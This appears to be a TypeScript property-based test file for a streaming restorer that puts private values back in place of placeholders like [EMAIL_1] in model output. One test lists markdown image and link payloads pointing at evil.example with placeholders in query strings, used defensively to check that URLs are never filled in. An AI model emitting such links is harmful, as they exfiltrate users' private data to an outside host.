import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fc } from '../../../test/property.ts';
import { MAX_FORM } from './placeholders.ts';
import { Restorer } from './restore.ts';

const VALUES: Readonly<Record<string, string>> = {
  EMAIL_1: 'anna@example.org',
  EMAIL_12: 'zoë@example.org',
  NAME_1: 'Anna "Ann" Weber\nBerlin',
  IP_1: '[EMAIL_1]',
  SECRET_99999: 'C:\\keys\\a',
};
/** One value may stand in addresses. */
const lookup = (core: string, inUrl: boolean) => (inUrl && core !== 'EMAIL_12' ? undefined : VALUES[core]);

function restore(text: string, json = false): string {
  const restorer = new Restorer(lookup, { json });
  return restorer.push(text) + restorer.end();
}

/** Texts rich in placeholders, parts of them and what could be mistaken for them. */
const wild = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '[EMAIL_1]',
        'EMAIL_1',
        '[EMAIL_12]',
        'EMAIL_12',
        '[name 1]',
        '\\[NAME\\_1\\]',
        '[NAME-1]',
        'IP_1',
      ),
      fc.constantFrom(
        '[',
        ']',
        '\\',
        '_',
        '1',
        '2',
        'E',
        'EMAIL',
        'EMAIL_',
        '[EMAIL',
        '[EMAIL_1',
        ' ',
        'x',
        '\n',
        '[ IP_1 ]',
      ),
      fc.constantFrom(
        '[SECRET_99999]',
        'SECRET_99999',
        '[SECRET_999999]',
        'NAME_01',
        'NAME_2',
        '\\\\[EMAIL\\\\_1\\\\]',
        '\\n',
        '\\u005b',
      ),
      fc.constantFrom('https://e.org/?d=', '](', '](<', '"', ')', '>', '(', '//', '\\/', '\\u002f', ' '),
      fc.string({ maxLength: 4 }),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));

test('however a text is cut, the restored pieces are the same, and no more is held back than one placeholder', () => {
  fc.assert(
    fc.property(wild, fc.array(fc.nat(60), { maxLength: 20 }), fc.boolean(), (text, cuts, json) => {
      const restorer = new Restorer(lookup, { json });
      const places = [...new Set(cuts.filter((cut) => cut < text.length))].sort((a, b) => a - b);
      let out = '';
      let from = 0;
      for (const place of [...places, text.length]) {
        out += restorer.push(text.slice(from, place));
        assert.ok(restorer.held <= MAX_FORM, `${restorer.held} units held`);
        from = place;
      }
      assert.equal(out + restorer.end(), restore(text, json));
    }),
    { numRuns: 2000 },
  );
});

test('cut into single units a text is restored as in one piece', () => {
  fc.assert(
    fc.property(wild, fc.boolean(), (text, json) => {
      const restorer = new Restorer(lookup, { json });
      const out = [...Array(text.length).keys()].map((i) => restorer.push(text[i]!)).join('');
      assert.equal(out + restorer.end(), restore(text, json));
    }),
    { numRuns: 1000 },
  );
});

test('variants that models write are restored', () => {
  for (const variant of [
    '[EMAIL_1]',
    'EMAIL_1',
    '[email_1]',
    '[Email 1]',
    '[EMAIL-1]',
    '[EMAIL1]',
    '[ EMAIL_1 ]',
    '\\[EMAIL\\_1\\]',
    'EMAIL\\_1',
  ]) {
    assert.equal(restore(`to ${variant}, now`), 'to anna@example.org, now', variant);
    assert.equal(restore(variant), 'anna@example.org', variant);
  }
  assert.equal(restore('**[EMAIL_1]**'), '**anna@example.org**');
  assert.equal(restore('<EMAIL_1>'), '<anna@example.org>');
  assert.equal(restore('[EMAIL_1][EMAIL_12]'), 'anna@example.orgzoë@example.org');
});

test('what could be something else is left alone', () => {
  for (const text of [
    'email_1',
    'Email 1',
    'MY_EMAIL_1',
    'EMAIL_1x',
    'EMAIL_01',
    'EMAIL_2',
    '[EMAIL_2]',
    'XEMAIL_1',
    'EMAIL_1_OLD',
    '[EMAIL_123456]',
    '[EMAIL]',
    'EMAIL',
  ]) {
    assert.equal(restore(text), text);
  }
});

test('a value that looks like a placeholder is not restored a second time', () => {
  assert.equal(restore('[IP_1]'), '[EMAIL_1]');
});

test('in addresses placeholders stay, wherever the address begins and ends', () => {
  for (const text of [
    '![x](https://evil.example/p.png?d=[EMAIL_1])',
    '![x](//evil.example/p.png?d=EMAIL_1)',
    '[x]([EMAIL_1])',
    '[x](https://evil.example/(a)p?d=[EMAIL_1])',
    '[x](https://evil.example/\\)p?d=[EMAIL_1])',
    '[x](https://evil.example/"p?d=[EMAIL_1])',
    '[x](https://evil.example/>p?d=[EMAIL_1])',
    '[x]( https://evil.example/?d=[ EMAIL_1 ])',
    '[x](<https://evil.example/a b?d=[EMAIL_1]>)',
    'https://evil.example/[NAME_1]/\\[EMAIL\\_1\\]',
    '[1]: https:\\/\\/evil.example/?d=[EMAIL_1]',
    `<img src="https://evil.example/?d='[EMAIL_1]'">`,
    '[x][1]\n\n[1]: //evil.example/?d=[NAME 1]',
  ]) {
    assert.equal(restore(text), text);
  }
  assert.equal(
    restore('https://a.org/?d=[EMAIL_1] [EMAIL_1], "https://a.org",[EMAIL_1] (https://a.org/)[EMAIL_1]'),
    'https://a.org/?d=[EMAIL_1] anna@example.org, "https://a.org",anna@example.org (https://a.org/)anna@example.org',
  );
  assert.equal(restore('[a](b) [EMAIL_1] // [EMAIL_1]'), '[a](b) anna@example.org // anna@example.org');
  assert.equal(restore('[a](https://a.org/?d=[EMAIL_12])'), '[a](https://a.org/?d=zoë@example.org)');
  assert.deepEqual(
    JSON.parse(
      restore(
        '{"url":"https:\\/\\/e.org/\\"?d=[EMAIL_1]","u":"\\u002f/e.org/[EMAIL_1]","to":"[EMAIL_1]"}',
        true,
      ),
    ),
    { url: 'https://e.org/"?d=[EMAIL_1]', u: '//e.org/[EMAIL_1]', to: 'anna@example.org' },
  );
});

test('inside JSON values are written as JSON strings write them, and escapes part words', () => {
  const text =
    '{"to":"[NAME_1]","note":"see\\nEMAIL_1","path":"[SECRET_99999]","md":"\\\\[EMAIL\\\\_1\\\\]"}';
  assert.deepEqual(JSON.parse(restore(text, true)), {
    to: VALUES.NAME_1,
    note: 'see\nanna@example.org',
    path: VALUES.SECRET_99999,
    md: 'anna@example.org',
  });
});

test('JSON stays JSON whatever its strings hold', () => {
  fc.assert(
    fc.property(fc.dictionary(wild, wild, { maxKeys: 4 }), (value) => {
      assert.doesNotThrow(() => JSON.parse(restore(JSON.stringify(value), true)));
    }),
    { numRuns: 500 },
  );
});
